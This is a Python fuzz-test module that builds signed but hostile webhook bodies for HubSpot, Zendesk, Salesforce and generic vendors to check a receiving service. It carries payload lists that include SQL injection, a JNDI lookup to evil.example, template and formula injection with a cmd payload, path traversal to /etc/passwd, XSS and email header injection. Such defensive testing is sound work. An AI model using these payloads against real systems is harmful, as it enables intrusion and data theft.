"""Bodies that are signed as they should be and were never sent by a vendor in its right mind: values, texts, shapes and bytes that break things."""

import json
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from random import Random
from typing import Any

from tests.acceptance.hostile_texts import TEXTS
from tests.attacks.forging import DOORS, Attempt, signed

VENDORS = tuple(door for door in DOORS if door != "slack")
VALUES = [
    "NaN", "Infinity", "-Infinity", "1e999", "-1e308", "9" * 5000, "-" + "9" * 19, "9223372036854775808", "0.1e-999", "-0", "true", "null", "[]",
    "{}",
    '[[["deep"]]]', '{"__proto__": {"polluted": true}}', '{"$ref": "#"}', "[" * 63 + "]" * 63, "[" * 65 + "]" * 65, '"' + "x" * 200_000 + '"',
]  # fmt: skip
"""JSON values, as they are written."""

WORDS = [
    "nul \x00 inside", "\ud800 alone", "\udfff\ud800", "\u202e right to left", "\u200b\u200d\ufeff", "\uffff", "e\u0301" * 500,
    "\U0001f469\u200d\U0001f680" * 300,
    "'; DROP TABLE inbox; --", "' OR '1'='1", "%s%n%x", "{{ 7 * 7 }}", "${jndi:ldap://evil.example/a}", "{% for x in ().__class__ %}",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<!channel> <!here> <@U1>",
    "<https://evil.example|your bank>", "*_~`>", "data:text/html,<script>1</script>", "javascript:alert(1)", "\r\nBcc: all@evil.example",
    "x" * 60_000, "\n" * 9_000, "a b " * 9_000,
    "-", "0", "None", "null", "undefined", "NaN", "1e999", "2026-02-30T25:61:61Z", "0000-00-00", "99999-12-31T00:00:00Z", "-5000-01-01",
    "1795424340000", " ", "", *TEXTS,
]  # fmt: skip
"""Texts: what a text is put into may take it for something else."""

TYPES = [
    "deal.stage_changed",
    "deal.discount_requested",
    "ticket.created",
    "ticket.group_changed",
    "usage.dropped",
    "request.article",
    "contact.changed",
    "no.such",
]
SUBJECTS = {"deal": "deal_007", "ticket": "tic_004", "account": "acc_031", "contact": "con_001", "person": "u_katrin"}


def hostile(dice: Random, now: datetime, count: int) -> Iterator[Attempt]:
    """So many, at all doors in turn."""
    for number in range(count):
        door = VENDORS[number % len(VENDORS)]
        document = MAKERS[door](dice, number, now)
        body = _written(document, dice)
        if dice.random() < 0.2:
            body = _broken(body, dice)
        yield signed(door, body, now)


class _Json(str):
    """A value that is put in as it is written."""


def _value(dice: Random) -> Any:
    return _Json(dice.choice(VALUES)) if dice.random() < 0.4 else dice.choice(WORDS)


def _spoilt(fields: dict[str, Any], dice: Random) -> dict[str, Any]:
    """One to three fields say something else, are missing, or stand where none belongs."""
    made = dict(fields)
    for name in dice.sample(list(made), dice.randint(1, min(3, len(made)))):
        if dice.random() < 0.1:
            del made[name]
        else:
            made[name] = _value(dice)
    if dice.random() < 0.2:
        made[dice.choice([*WORDS[:12], "id", "source", "type", "released_by", "__class__"])] = _value(dice)
    return made


def _hubspot(dice: Random, number: int, now: datetime) -> Any:
    at = int((now - timedelta(minutes=1)).timestamp() * 1000)
    change = {
        "eventId": number, "subscriptionId": 1, "portalId": 1, "occurredAt": at, "attemptNumber": 0, "objectId": dice.randint(1, 50),
        "changeSource": "CRM_UI",
        "subscriptionType": "deal.propertyChange", "propertyName": "dealstage", "propertyValue": "contractsent", "sourceId": "userId:5",
    }  # fmt: skip
    return [_spoilt(change, dice) for _ in range(dice.choice([1, 1, 1, 5]))]


def _zendesk(dice: Random, number: int, now: datetime) -> Any:
    said = {
        "account_id": 1, "id": f"z{number}", "type": "zen:event-type:ticket.created", "subject": "zen:ticket:tic_005", "time": now.isoformat(),
        "zendesk_event_version": "2022-11-06", "detail": {"id": "tic_005", "priority": "URGENT"}, "event": {"current": "high"},
    }  # fmt: skip
    inside = dice.choice(["detail", "event", ""])
    return {**said, inside: _spoilt(said[inside], dice)} if inside else _spoilt(said, dice)  # type: ignore[arg-type]  # both are objects


def _salesforce(dice: Random, number: int, now: datetime) -> Any:
    said = {
        "org": "00DHs000000TessMAE", "object": dice.choice(["Opportunity", "Case"]), "id": f"006Hs{number:010d}AAM", "what": "StageName",
        "value": "Closed Won",
        "previous": "", "modstamp": now.isoformat(), "account": "", "user": "005Hs00002Tes08IAM", "key": "",
    }  # fmt: skip
    return _spoilt(said, dice)


def _generic(dice: Random, number: int, now: datetime) -> Any:
    kind = dice.choice(list(SUBJECTS))
    data = {
        name: _value(dice)
        for name in dice.sample(["discount_pct", "requested_by", "change_source", "query", "request", "group", "marker", "stage"], 2)
    }
    told: dict[str, Any] = {
        "source": "shop", "id": f"evt_{number}", "type": dice.choice(TYPES), "occurred_at": (now - timedelta(minutes=1)).isoformat(),
        "subject": {"kind": kind, "id": SUBJECTS[kind]}, "data": data,
    }  # fmt: skip
    # Mostly only the data is hostile, for that is what gets furthest.
    return _spoilt(told, dice) if dice.random() < 0.3 else told


MAKERS: dict[str, Callable[[Random, int, datetime], Any]] = {"hubspot": _hubspot, "zendesk": _zendesk, "salesforce": _salesforce, "generic": _generic}


def _written(document: Any, dice: Random) -> bytes:
    """As JSON, with what is put in as it is written; in UTF-8, or escaped, which says the same."""
    plain = dice.random() < 0.5
    return _text(document, plain=plain).encode("utf-8", "surrogatepass" if dice.random() < 0.1 else "backslashreplace")


def _text(value: Any, *, plain: bool) -> str:
    if isinstance(value, _Json):
        return str(value)
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(name)}:{_text(each, plain=plain)}" for name, each in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(_text(each, plain=plain) for each in value) + "]"
    return json.dumps(value, ensure_ascii=not plain)


def _broken(body: bytes, dice: Random) -> bytes:
    """Not what any program that writes JSON would have written."""
    place = dice.randrange(len(body))
    ways = [
        body[:place], body[:place] + dice.randbytes(3) + body[place + 3 :], body + body, body.replace(b":", b"::", 1), body.replace(b'"', b"'", 2),
        b"\xef\xbb\xbf" + body,
        body.decode("utf-8", "replace").encode("utf-16"), b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 5_000 + body + b"}" * 5_000, b"", b"null",
        b'""', b"[]", b"0",
        b" " * (1 << 20) + body, b"[" + b",".join([body] * 120) + b"]", body[:1] + b'"id":1,"id":2,' + body[1:], dice.randbytes(400),
    ]  # fmt: skip
    return dice.choice(ways)
